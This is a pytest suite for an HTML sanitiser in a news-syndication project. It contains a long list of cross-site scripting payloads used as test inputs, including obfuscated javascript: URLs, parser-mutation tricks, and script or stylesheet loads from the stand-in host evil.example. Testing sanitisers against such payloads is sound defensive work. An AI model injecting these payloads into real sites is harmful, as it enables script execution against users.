"""Nothing but what is listed comes out of the sanitiser, and nothing that text needs is lost."""

from __future__ import annotations

from html import unescape
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from syndicator.model.article import Image, SafeHtml
from syndicator.normalise import markup as markup_room
from syndicator.normalise.markup import (
    ATTRIBUTES,
    DEEPEST,
    LARGEST,
    REL,
    SCHEMES,
    TAGS,
    Excess,
    is_marked_up,
    paragraphs,
    pictures,
    sanitise,
    settled,
    words,
)

BASE = "https://example.org/news/1"

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script><!--</script><img src=x onerror=alert(1)>-->",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src='x' onload = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src=1 srcset="javascript:alert(1) 1x">',
    '<img """><script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&nbsp;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1);">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example" ping="https://evil.example" target=_blank onclick=alert(1)>x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="https://user:secret@evil.example/">x</a>',
    '<a href="mailto:a@example.org?body=<script>">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
    '<p class="overlay" id="login">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=x><applet code=x>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY x '<script>'>]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="data:text/html,x">x</q>',
    "<p dir='ltr\"><script>'>x</p>",
    "<b>&#x338;script&gt;alert(1)</b>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div title='&lt;img src=x onerror=alert(1)&gt;'>x</div>",
    "<a href='https://example.org/\"onmouseover=alert(1)'>x</a>",
    "<time datetime='\"><script>'>x</time>",
    "<td colspan='9999999999'>x</td>",
    "<" * 300,
    "<a" * 120,
    "<p><a href=x><p><b",
]


class _Inspector(HTMLParser):
    """Fails on anything that is not listed."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES[tag] | ({"rel"} if tag == "a" else set())
            if name in {"href", "src", "cite"}:
                assert urlsplit(value or "").scheme in SCHEMES
            if name == "rel":
                assert value == REL

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_pi = handle_comment


def _inspect(markup: str) -> SafeHtml:
    safe = sanitise(markup, BASE)
    assert not isinstance(safe, Excess)
    _Inspector().feed(safe)
    assert sanitise(safe, BASE) == safe
    return safe


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_unlisted_comes_out_of_an_attack(attack: str) -> None:
    """Whatever stands around it (faults H01 to H15), and cleaning again changes nothing."""
    for markup in (attack, f"<p>before {attack} after</p>", f"<ul><li><b>{attack}", attack * 2):
        _inspect(markup)


PIECES = [
    "<p>", "</p>", "<b", ">", "<script>", "</script>", "<svg>", "<math>", "<style>", "</style>", "<img src=", "'", '"',
    " ", "onerror=", "javascript:", "https://e.org", "&lt;", "&#106;", "<!--", "-->", "<pre>", "\n", "\u0338", "x",
    "<a href=", "<td>", "<table>", "</table>", "<select>", "&", ";", "=", "/", "<ruby>", "<rt>", "<br", "\x00",
    "\ud800", "<![CDATA[", "<noscript>", "<h1>", "<h2>", "<font>", "<marquee>", "</marquee>", "<li>", "<section>",
    "</h1>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_nothing_unlisted_comes_out_of_any_pieces(markup: str) -> None:
    """The same for what nobody thought of; and what is said stays the same."""
    safe = _inspect(markup)
    again = sanitise(safe, BASE)
    assert not isinstance(again, Excess)
    assert words(again) == words(safe)


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<h1>a<font><h2>b</h2></font></h1>", "<h1>a</h1><h2>b</h2>"),
        ("<h1><table><h2>b</h2></table></h1>", "<h1></h1><h2>b</h2><table></table>"),
        ("<ul><li>a<section><li>b</section></ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<p>a<marquee><p>b</marquee>c", "<p>a</p><p>b</p>c<p></p>"),
        ("<ruby><rt><article><rt>b", "<ruby><rt></rt><rt>b</rt></ruby>"),
    ],
)
def test_what_comes_out_is_read_alike_by_everybody(markup: str, expected: str) -> None:
    """The tags that are gone held others apart; the next parser must not build another tree (fault H03)."""
    assert _inspect(markup) == expected


@pytest.mark.parametrize(
    "markup",
    [
        '<p dir="rtl" lang="he">שלום <bdi>Name</bdi> <bdo dir="ltr">abc</bdo></p>',
        "<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>",
        '<figure><img alt="A" src="https://example.org/a.jpg"><figcaption>B</figcaption></figure>',
        '<table><caption>C</caption><thead><tr><th scope="col">A</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<blockquote cite="https://example.org/a"><p>Q</p></blockquote>',
        '<time datetime="2026-01-01T00:00:00Z">today</time>',
        '<ol reversed="" start="3"><li>x</li></ol>',
    ],
)
def test_what_meaning_needs_is_kept(markup: str) -> None:
    """Conformance 34."""
    assert sanitise(markup, BASE) == markup


def test_links_are_absolute_and_carry_rel() -> None:
    """Relative ones are resolved; mail addresses lose what else is written into them (conformance 36, fault H14)."""
    rel = f'rel="{REL}"'
    assert sanitise('<a href="../x" target="_blank">x</a>', BASE) == f'<a href="https://example.org/x" {rel}>x</a>'
    assert sanitise('<a href="mailto:a@example.org?cc=b">x</a>') == f'<a href="mailto:a@example.org" {rel}>x</a>'
    assert sanitise('<a href="x" hreflang="iw">x</a>') == f'<a hreflang="he" {rel}>x</a>'


def test_attributes_come_out_in_one_order() -> None:
    """Equal content makes equal bytes, and cleaning again changes nothing (conformance 7)."""
    once = sanitise('<a title="t" hreflang="he" href="/x" dir="rtl">x</a>', BASE)
    assert once == f'<a dir="rtl" href="https://example.org/x" hreflang="he" rel="{REL}" title="t">x</a>'
    assert sanitise(once) == once


@pytest.mark.parametrize(
    "image",
    [
        '<img src="/p.gif" width="1" height="1">',
        "<img src=/p.gif height=0>",
        '<img src="/p.gif" width=1px>',
        "<img alt=x>",
        "<img src=cid:1>",
    ],
)
def test_images_nobody_sees_are_dropped(image: str) -> None:
    """Tracking pixels and images without an http(s) address (fault H13)."""
    assert sanitise(f"a{image}b", BASE) == "ab"


def test_the_size_of_an_image_is_not_kept() -> None:
    """Fault H07."""
    assert sanitise('<img width="640" src="/a.png" height="480">', BASE) == '<img src="https://example.org/a.png">'


def test_entities_are_decoded_exactly_once() -> None:
    """A code sample stays a code sample (fault H12)."""
    assert (
        sanitise("<code>&amp;lt;b&amp;gt; &lt;b&gt;</code> a & b")
        == "<code>&amp;lt;b&amp;gt; &lt;b&gt;</code> a &amp; b"
    )


def test_markup_beyond_the_bounds_is_not_looked_at() -> None:
    """Size and depth are checked before the sanitiser runs (part 1 of the faults); embedded pictures do not count."""
    assert sanitise("x" * LARGEST) == "x" * LARGEST
    assert sanitise("ә" * (LARGEST // 2 + 1)) is Excess.LARGE
    assert sanitise("<div>" * (DEEPEST + 1)) is Excess.DEEP
    assert sanitise("<b></i>" * (DEEPEST + 1)) is Excess.DEEP
    assert sanitise("<p>x<br></p>" * 1_000 + "<div></div>" * 1_000) is not Excess.DEEP
    assert sanitise(f'<p>x</p><img src="data:image/png;base64,{"A" * LARGEST}">') == "<p>x</p>"


def test_words_are_told_apart_by_paragraph_and_line() -> None:
    """Paragraphs by a blank line, list items, rows and breaks by a line end, cells by a space."""
    markup = (
        "<h2>Head</h2><p>One\n two&nbsp;<b>th</b>ree</p><ul><li>a</li><li>b</li></ul>l1<br>l2"
        "<table><tbody><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table><pre>k  l\n m</pre>5 &lt; 6"
    )
    assert words(SafeHtml(markup)) == "Head\n\nOne two three\n\na\nb\n\nl1\nl2\n\n1 2\n3\n\nk l\nm\n\n5 < 6"


def test_plain_text_becomes_paragraphs() -> None:
    """And is read back as it was."""
    text = "One <b>\ntwo & three\n \n\nfour"
    assert paragraphs(text) == "<p>One &lt;b&gt;<br>two &amp; three</p><p>four</p>"
    safe = sanitise(paragraphs(text))
    assert not isinstance(safe, Excess)
    assert words(safe) == "One <b>\ntwo & three\n\nfour"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>x</b>", True),
        ("a<br>b", True),
        ('<a href="x">y', True),
        ("<script>", True),
        ("<article>x</article>", True),
        ("the <b> tag", False),
        ("the <main> thing", False),
        ("a < b > c", False),
        ("</nonsense>", False),
        ("<nonsense onclick=x>", True),
        ("<x/onclick = 'y", True),
        ("List<Type> once = more", False),
        ("plain", False),
    ],
)
def test_markup_in_plain_text_is_recognised_when_sure(text: str, expected: bool) -> None:
    """A closing tag, attributes, or a tag without content; a handler anywhere."""
    assert is_marked_up(text) is expected


def test_pictures_are_given_in_order_with_their_words() -> None:
    """Attributes decoded."""
    safe = sanitise('<p>x</p><img src="/a.png?b&amp;c" alt="A &quot;B&quot;\n C"><img src="/d.png">', BASE)
    assert not isinstance(safe, Excess)
    assert list(pictures(safe)) == [
        Image("https://example.org/a.png?b&c", alt='A "B" C'),
        Image("https://example.org/d.png"),
    ]


def test_the_first_line_of_preformatted_text_survives_every_reading() -> None:
    """A parser drops one line end after ``<pre>`` each time."""
    assert sanitise("<pre>\n\n\n  x\n</pre>") == "<pre>  x\n</pre>"


def test_attributes_with_a_meaning_of_their_own_are_checked() -> None:
    """Language tags become canonical; what is no direction, number or time is dropped."""
    assert sanitise('<p lang="EN_us" dir="RTL">x</p>') == '<p dir="rtl" lang="en-US">x</p>'
    assert sanitise('<p lang="xx" dir="up">x</p><time datetime="soon">y</time>') == "<p>x</p><time>y</time>"
    assert unescape(sanitise('<abbr title="A &amp; B">x</abbr>')) == '<abbr title="A & B">x</abbr>'


def test_markup_that_would_not_settle_is_taken_as_it_is_in_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Readings are bounded; two were the most that was ever needed."""
    monkeypatch.setattr(markup_room, "_READINGS", 1)
    assert settled("<h1>a<h2>b</h2></h1>") == "<h1>a</h1><h2>b</h2>"


NESTED = [
    "p",
    "div",
    "h2",
    "blockquote",
    "ul",
    "ol",
    "li",
    "figure",
    "figcaption",
    "a",
    "b",
    "em",
    "strong",
    "span",
    "code",
    "time",
    "td",
    "pre",
    "br",
    "img",
]


def _of(tag: str, inner: str) -> str:
    attributes = (
        ' href="https://a.example/"' if tag == "a" else ' src="https://a.example/i.jpg"' if tag == "img" else ""
    )
    return f"<{tag}{attributes}>" + ("" if tag in ("br", "img") else f"{inner}</{tag}>")


def _read_until_settled(markup: str) -> str:
    again = nh3.clean(markup, tags=set(TAGS), link_rel=None)
    return markup if again == markup else _read_until_settled(again)


@pytest.mark.parametrize("outer", NESTED)
def test_what_is_read_but_once_is_what_a_parser_leaves_as_it_is(outer: str) -> None:
    """Of any three tags within and beside one another, and of those that are not closed."""
    for first, second in product(NESTED, repeat=2):
        within, beside = _of(first, _of(second, "x")), _of(first, "x") + _of(second, "y")
        for inner in (within, beside):
            for markup in (_of(outer, inner), _of(outer, inner).removesuffix(f"</{outer}>"), f"{inner}</{outer}>"):
                assert settled(markup) == _read_until_settled(markup)
